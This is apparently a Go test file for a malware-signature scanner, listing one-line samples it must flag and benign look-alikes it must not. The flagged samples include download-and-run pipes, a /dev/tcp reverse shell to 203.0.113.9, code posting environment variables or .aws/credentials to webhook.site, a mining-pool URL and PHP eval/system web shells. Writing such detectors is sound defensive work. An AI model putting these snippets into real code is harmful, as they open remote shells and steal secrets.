package content

import (
	"strings"
	"testing"
)

// What hardly any harmless module has, and twins of each that stand in well-known libraries.
func TestStrictSigns(t *testing.T) {
	for text, want := range map[string]Sign{
		"exec(base64.b64decode('eA=='))":                                    RunsDecoded,
		"exec(__import__('base64').b64decode(b'eA=='))":                     RunsDecoded,
		"os.system(base64.b64decode('eA==').decode())":                      RunsDecoded,
		"@eval(base64_decode($x));":                                         RunsDecoded,
		"eval(gzinflate(base64_decode($x)));":                               RunsDecoded,
		"new Function(atob(s))()":                                           RunsDecoded,
		"Thread.new { eval(URI.open('https://a.example/r').read) }":         RunsDownload,
		"exec(urllib.request.urlopen('https://a.example').read())":          RunsDownload,
		"exec(requests.get(url).text)":                                      RunsDownload,
		"os.system('curl -fsSL https://a.example/x | sh')":                  RunsDownload,
		"execSync(\"wget -qO- https://a.example/x | bash\")":                RunsDownload,
		"subprocess.call('bash -i >& /dev/tcp/203.0.113.9/443 0>&1')":       ReverseShell,
		"https.request(o).end(JSON.stringify(process.env))":                 Exfiltrates,
		"requests.post(u, data=json.dumps(dict(os.environ)))":               Exfiltrates,
		"fetch('https://webhook.site/x', {body: read('.aws/credentials')})": Exfiltrates,
		"POOL = 'stratum+tcp://pool.example:3333'":                          Mines,
		"<?php eval($_POST['x']); ?>":                                       RunsRequest,
		"<?php system( $_GET['c'] );":                                       RunsRequest,

		"subprocess.run([sys.executable, '-m', 'pip'])\nbase64.b64decode(x)": "",
		"data = requests.get(url)\nsubprocess.run(['tar', 'x'])":             "",
		"os.system('curl -fsSL https://a.example/x -o x')":                   "",
		"print('install it: curl -sSL https://a.example | python3 -')":       "",
		"exec(compile(source, name, 'exec'), g)":                             "",
		"eval(expression, {}, names)":                                        "",
		"os.dup2(a, b)\npty.spawn('/bin/sh')":                                "",
		"JSON.stringify(process.env.NODE_ENV)":                               "",
		"m = re.compile(x).exec(atob(y))":                                    "",
		"JSON.parse(atob(token.split('.')[1]))":                              "",
		"# exec(base64.b64decode('eA=='))":                                   "",
		"if ($_POST['x']) { evaluate($_POST); }":                             "",
	} {
		found := Strict([]byte(text + "\n"))
		switch {
		case want == "" && len(found) > 0:
			t.Errorf("%s: %+v", text, found)
		case want != "" && (len(found) == 0 || found[0].Sign != want):
			t.Errorf("%s: %+v, want %s", text, found, want)
		case want != "" && found[0].Excerpt == "":
			t.Errorf("%s: nothing is shown", text)
		}
	}
	if got := Miners([]byte("stratum+tcp://a --donate-level 1")); got != 2 {
		t.Errorf("%d strings of miners, not 2", got)
	}
}

// Strict takes any bytes, and time in proportion to them.
func FuzzStrict(f *testing.F) {
	f.Add([]byte("exec(base64.b64decode('x'))"))
	f.Add([]byte(strings.Repeat("eval(", 3000) + strings.Repeat("atob(", 3000)))
	f.Fuzz(func(t *testing.T, text []byte) {
		for _, found := range Strict(text) {
			if !found.Sign.Strong() {
				t.Errorf("%s is no strong sign", found.Sign)
			}
		}
	})
}
